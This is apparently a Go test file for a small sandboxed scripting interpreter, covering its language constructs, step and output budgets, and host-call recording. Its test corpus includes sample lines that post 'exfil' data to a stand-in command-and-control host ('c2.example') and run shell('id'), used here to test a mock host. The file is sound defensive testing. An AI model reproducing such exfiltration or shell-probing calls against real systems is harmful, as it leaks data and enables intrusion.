package minilang

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// corpus covers every language construct, every error class, and host
// traffic. FuzzInterp seeds with it; TestSharedSessionState runs it as
// one kernel session.
var corpus = []string{
	"x = 1 + 2 * 3\nprint(x)",
	`print("a" + "b", 1 < 2, [1, 2, 3])`,
	"print(-5 + 3)",
	"print(not 0, not [], not \"x\")",
	"n = spin(0)\nprint(1 == 1, 1 != 2, n == 3, n == n, str(n))",
	"x = [10, 20, 30]\nprint(x[0], x[-1], x[1 + 1])",
	"x = \"hello\"\nprint(x[1], x[-1])",
	"print([1,2][5])",
	"print(\"abc\"[-9])",
	"print([1][\"a\"])",
	"print(5[0])",
	"total = 0\nfor i in range(100)\ntotal = total + i\nend\nprint(total)",
	"a = 0\nb = 1\nn = 0\nwhile n < 20\nt = a + b\na = b\nb = t\nn = n + 1\nend\nprint(a)",
	"break",
	"if 1\nbreak\nend",
	"i = 0\nwhile 1\ni = i + 1\nif i > 3\nbreak\nend\nend\nprint(i)",
	"while 0\nshell(\"never\")\nend\nprint(\"after\")",
	"for x in [1, 2, 3]\nif x == 2\nbreak\nend\nprint(x)\nend\nprint(x)",
	"for ln in \"alpha\\nbeta\"\nprint(ln)\nend",
	"for ln in read_file(\"/data/a.txt\")\nprint(ln)\nend",
	"for x in 42\nprint(x)\nend",
	"if 1 > 2\nprint(\"no\")\nelse\nprint(\"yes\")\nend",
	"if 2 > 1\nprint(\"yes\")\nend",
	"if 0\nshell(\"dead\")\nelse\nprint(\"live\")\nend",
	"x = 0 and nope()\nprint(x)",
	"x = 1 or nope()\nprint(x)",
	"x = 1 and \"s\"\nprint(x)",
	"x = 0 or []\nprint(x)",
	"x = len(\"ab\") and 1 + 2\nprint(x)",
	"nope()",
	"len()",
	"len(1, 2)",
	"print(1 + \"a\")",
	"print([1] < [2])",
	"print(1 / 0)",
	"print(5 % 0)",
	"print(1 % 0.5)",
	"print(7 % -2.9, -7 % 2.9)",
	"print(7 % 3, 10 / 4)",
	"print(\"ab\" * 3)",
	"print(\"a\" * -1)",
	"print(nosuchvar)",
	"x = num(\"nan\")\nprint(x < 1, x > 1, x <= 1, x >= 1, x == x)",
	"print(num(\"3.5\") + num(\"  2 \"))",
	"print(num(\"bogus\"))",
	"x = [1, 2]\nx = append(x, 3)\nprint(x, len(x))",
	"print(join(split(\"a,b,c\", \",\"), \"-\"))",
	"print(contains(\"hay\", \"a\"), upper(\"ab\"), lower(\"AB\"))",
	"print(sha256(\"x\"))",
	"print(b64encode(\"hi\"), b64decode(\"aGk=\"))",
	"print(b64decode(\"!!!\"))",
	"c = encrypt(\"secret\", \"k\")\nprint(decrypt(c, \"k\"))",
	"print(str(3.5) + str([1, \"a\", [2]]))",
	"print(read_file(\"/data/a.txt\"))",
	"print(read_file(\"/missing\"))",
	"write_file(\"/tmp/x\", \"payload\")\nprint(read_file(\"/tmp/x\"))",
	"write_file(\"/tmp/y\", \"v\")\nrename_file(\"/tmp/y\", \"/tmp/z\")\ndelete_file(\"/tmp/z\")",
	"delete_file(\"/missing\")",
	"for f in list_files(\"/data\")\nprint(f)\nend",
	"print(http_get(\"http://c2.example/x\"))",
	"print(http_post(\"http://c2.example/x\", \"exfil\"))",
	"print(shell(\"id\"))",
	"spin(5)\nspin(3)",
	"print(hostname(), env(\"USER\"), env(\"NOPE\"))",
	"1 + 2\nprint(3)",
	"x = [1,\n2]\nprint(x)",
	"x = range(3)\nfor i in x\nfor j in x\nif j == 1\nbreak\nend\nprint(i, j)\nend\nend",
	"while 1\nbreak\nend\nprint(\"out\")",
	"x = 1\nwhile x < 100 and 1\nx = x * 2\nend\nprint(x)",
	"print(2 + 3 == 5 and (1 or 0))",
	"print(len(range(0)))",
	"range(-1)",
	"spin(0 - 4)",
}

// outcome is everything a Run can be seen to do: its error, its
// stdout, the namespace after it, every host call so far, and the
// usage counters.
type outcome struct {
	Err      string
	Stdout   string
	Vars     map[string]string
	Calls    []string
	Counters Counters
}

func (h *harness) step(src string) outcome {
	out, err := h.exec(src)
	return outcome{
		Err:      fmt.Sprint(err),
		Stdout:   out,
		Vars:     dumpVars(h.in.Vars()),
		Calls:    slices.Clone(h.host.calls),
		Counters: h.in.Counters(),
	}
}

// stepTwins runs src on a and b, two interpreters on identical hosts,
// and fails unless both outcomes are the same: what a cell does may
// depend only on its program, its host and its limits.
func stepTwins(t *testing.T, a, b *harness, src string) outcome {
	t.Helper()
	oa, ob := a.step(src), b.step(src)
	if !reflect.DeepEqual(oa, ob) {
		t.Fatalf("two interpreters disagree on %q:\n  %+v\n  %+v", src, oa, ob)
	}
	return oa
}

// dumpVars renders a namespace kind-tagged so NaN compares equal to
// itself and Str("1") stays distinct from Number(1).
func dumpVars(vars map[string]Value) map[string]string {
	out := make(map[string]string, len(vars))
	for k, v := range vars {
		out[k] = dumpValue(v)
	}
	return out
}

// dumpValue renders at most 1 MiB of v: a list nested in itself is
// exponentially long, and its prefix tells two interpreters apart.
func dumpValue(v Value) string {
	var b strings.Builder
	dumpTo(&b, v, 1<<20)
	return b.String()
}

func dumpTo(b *strings.Builder, v Value, max int) bool {
	switch t := v.(type) {
	case List:
		b.WriteString("l:[")
		for i, e := range t {
			if i > 0 {
				b.WriteByte(',')
			}
			if !dumpTo(b, e, max) {
				return false
			}
		}
		b.WriteByte(']')
	default:
		b.WriteString(v.valueKind() + ":" + Format(v))
	}
	return b.Len() <= max
}

// TestSharedSessionState runs the whole corpus as one session on two
// interpreters, so variables, stdout and counters accumulate across
// Run calls exactly as kernel cells do, and both must agree after
// every cell.
func TestSharedSessionState(t *testing.T) {
	a, b := newHarness(Limits{}), newHarness(Limits{})
	for _, src := range corpus {
		stepTwins(t, a, b, src)
	}
	if got := a.in.Vars()["total"]; got != Number(4950) {
		t.Fatalf("total = %v after the session, want 4950 from an early cell", got)
	}
}

func TestInterpContract(t *testing.T) {
	in := NewInterp(newMemHost(), Limits{})
	if err := in.Run("x = 6 * 7\nprint(x)"); err != nil {
		t.Fatal(err)
	}
	if got := in.TakeStdout(); got != "42\n" {
		t.Fatalf("stdout = %q", got)
	}
	if got := in.Vars()["x"]; got != Number(42) {
		t.Fatalf("vars[x] = %v", got)
	}
	if in.TakeStdout() != "" {
		t.Fatal("TakeStdout did not clear")
	}
}

func isStepLimit(err error) bool {
	var rt *RuntimeError
	return errors.As(err, &rt) && rt.EName == "ResourceError" && strings.Contains(rt.Msg, ErrTooManySteps.Error())
}

// TestStepBudgetThreshold sweeps MaxSteps over loops, branches, host
// calls and a 40-deep nested sum. Each program fails with the step
// ResourceError below one threshold — exactly the steps an unlimited
// run takes — and succeeds identically at and above it. A larger
// budget only ever extends what a smaller one did: the host calls and
// stdout at each budget are a prefix of those at the next.
func TestStepBudgetThreshold(t *testing.T) {
	progs := []string{
		"x = 1 + 2 * 3\ny = x + 1\nprint(y)",
		"total = 0\nfor i in range(5)\ntotal = total + i * 2\nend\nprint(total)",
		"i = 0\nwhile i < 4\ni = i + 1\nshell(\"tick\")\nend",
		"while 1\nspin(1)\nbreak\nend",
		"if 1 + 1 == 2\nwrite_file(\"/t\", \"a\" + \"b\")\nend\nprint(read_file(\"/t\"))",
		"x = 0\nwhile 1\nx = x + 1\nif x > 2\nbreak\nend\nend\nprint(x)",
		"for ln in \"a\\nb\\nc\"\nprint(ln, 1 * 2 + 3)\nend",
		"x = [1, 2, 3]\nprint(x[0 + 1], not 0 and 1)",
		"x = " + strings.Repeat("1 + (", 40) + "0" + strings.Repeat(")", 40),
	}
	for _, src := range progs {
		full := newHarness(Limits{})
		fullOut, err := full.exec(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		need := full.in.steps
		if need < 2 || need > 150 {
			t.Fatalf("%q takes %d steps, outside the sweep", src, need)
		}
		var prevOut string
		var prevCalls []string
		for max := 1; max <= 150; max++ {
			h := newHarness(Limits{MaxSteps: max})
			out, err := h.exec(src)
			switch {
			case max < need && !isStepLimit(err):
				t.Fatalf("%q at MaxSteps %d (< %d): err = %v, want the step limit", src, max, need, err)
			case max >= need && err != nil:
				t.Fatalf("%q at MaxSteps %d (>= %d): %v", src, max, need, err)
			case max >= need && (out != fullOut || !slices.Equal(h.host.calls, full.host.calls)):
				t.Fatalf("%q at MaxSteps %d: stdout %q calls %v, unlimited run %q %v", src, max, out, h.host.calls, fullOut, full.host.calls)
			}
			if !strings.HasPrefix(out, prevOut) || len(h.host.calls) < len(prevCalls) || !slices.Equal(h.host.calls[:len(prevCalls)], prevCalls) {
				t.Fatalf("%q at MaxSteps %d: stdout %q calls %v do not extend %q %v at %d", src, max, out, h.host.calls, prevOut, prevCalls, max-1)
			}
			prevOut, prevCalls = out, h.host.calls
		}
	}
}

// TestOutputBudgetSweep sweeps MaxOutputBytes across a program's whole
// output: stdout never exceeds the budget and is always a prefix of
// the unlimited output, and the run fails with a ResourceError exactly
// when the full output does not fit.
func TestOutputBudgetSweep(t *testing.T) {
	src := "for i in range(20)\nprint(\"line\", i)\nend\nprint(\"done\")"
	full := run(t, src)
	for max := 1; max <= len(full)+8; max++ {
		out, err := newHarness(Limits{MaxOutputBytes: max}).exec(src)
		if len(out) > max || !strings.HasPrefix(full, out) {
			t.Fatalf("MaxOutputBytes %d: stdout %q (%d bytes)", max, out, len(out))
		}
		var rt *RuntimeError
		fits := max >= len(full)
		if fits && err != nil || !fits && !(errors.As(err, &rt) && rt.EName == "ResourceError") {
			t.Fatalf("MaxOutputBytes %d (output %d bytes): err = %v", max, len(full), err)
		}
	}
}

// TestStepChargePerNode: a statement costs one step and each expression
// node one more, so `x = 1 + 2 * 3 - (4 / 2)` (5 literals, 4
// operators) takes 10 steps.
func TestStepChargePerNode(t *testing.T) {
	h := newHarness(Limits{})
	if _, err := h.exec("x = 1 + 2 * 3 - (4 / 2)"); err != nil {
		t.Fatal(err)
	}
	if h.in.steps != 10 {
		t.Fatalf("steps = %d, want 10", h.in.steps)
	}
	if got := h.in.Vars()["x"]; got != Number(5) {
		t.Fatalf("x = %v, want 5", got)
	}
}

// TestCallsInConstantExpressions: a builtin call inside otherwise
// literal arithmetic or logic still reaches the host, once each, in
// source order.
func TestCallsInConstantExpressions(t *testing.T) {
	cases := []struct {
		src   string
		calls []string
	}{
		{"x = 1 + len(shell(\"id\")) * 2", []string{"shell:id"}},
		{"x = spin(1) == spin(0)", []string{"spin:1", "spin:0"}},
		{"x = 1 and shell(\"id\")", []string{"shell:id"}},
		{"x = hostname() and 1", []string{"hostname"}},
	}
	for _, c := range cases {
		h := newHarness(Limits{})
		if _, err := h.exec(c.src); err != nil {
			t.Fatalf("%q: %v", c.src, err)
		}
		if !slices.Equal(h.host.calls, c.calls) {
			t.Fatalf("%q: host calls %v, want %v", c.src, h.host.calls, c.calls)
		}
	}
}

// TestRuntimeErrorOnlyWhenReached: an erroring literal expression
// raises when it runs, at its own line and after the lines before it
// have printed, and not at all on a path that never runs.
func TestRuntimeErrorOnlyWhenReached(t *testing.T) {
	out, err := newHarness(Limits{}).exec("print(\"before\")\nx = 1 / 0\nprint(\"after\")")
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "ZeroDivisionError" || rt.Line != 2 {
		t.Fatalf("err = %v, want ZeroDivisionError at line 2", err)
	}
	if out != "before\n" {
		t.Fatalf("stdout = %q, want only the line before the error", out)
	}
	if got := run(t, "if 0\nx = 1 / 0\nend\nwhile 0\nx = 5 % 0\nend\nprint(\"ok\")"); got != "ok\n" {
		t.Fatalf("dead branches: stdout = %q", got)
	}
}

// TestDeadBranchesSkipHost: the bodies of `if 0` and `while 0` never
// run, so their host calls never happen; the live else branch does.
func TestDeadBranchesSkipHost(t *testing.T) {
	h := newHarness(Limits{})
	if _, err := h.exec("if 0\nshell(\"dead\")\nelse\nx = 1\nend\nwhile 0\nshell(\"dead2\")\nend"); err != nil {
		t.Fatal(err)
	}
	if len(h.host.calls) != 0 {
		t.Fatalf("dead branches called the host: %v", h.host.calls)
	}
	if got := h.in.Vars()["x"]; got != Number(1) {
		t.Fatalf("x = %v, want 1 from the else branch", got)
	}
}

func TestBuiltinNamesMemoized(t *testing.T) {
	a := BuiltinNames()
	b := BuiltinNames()
	if len(a) == 0 || &a[0] != &b[0] {
		t.Fatal("BuiltinNames must return the memoized slice")
	}
	for i := 1; i < len(a); i++ {
		if a[i-1] >= a[i] {
			t.Fatalf("names not sorted: %q >= %q", a[i-1], a[i])
		}
	}
	if n := testing.AllocsPerRun(100, func() { BuiltinNames() }); n != 0 {
		t.Fatalf("BuiltinNames allocates %v per call after first use", n)
	}
}

// TestXorKeystreamInvalidUTF8: encrypt output is raw bytes, almost
// never valid UTF-8; concatenation, indexing, comparison, decrypt and
// sha256 must all treat it byte for byte.
func TestXorKeystreamInvalidUTF8(t *testing.T) {
	h := newHarness(Limits{})
	out, err := h.exec(`c = encrypt("payload-bytes", "k1")
d = c + c
print(len(d), d[0] == d[len(c)])
print(decrypt(c, "k1"))
e = encrypt(c, "k2")
print(len(e), sha256(e))`)
	if err != nil {
		t.Fatal(err)
	}
	c := xorKeystream([]byte("payload-bytes"), "k1")
	if utf8.ValidString(c) {
		t.Fatal("ciphertext is valid UTF-8; pick a key that makes it raw bytes")
	}
	e := xorKeystream([]byte(c), "k2")
	if want := fmt.Sprintf("26 1\npayload-bytes\n13 %x\n", sha256.Sum256([]byte(e))); out != want {
		t.Fatalf("out = %q, want %q", out, want)
	}
	if d := h.in.Vars()["d"]; d != Str(c+c) {
		t.Fatalf("d = %q, want %q", d, c+c)
	}
}
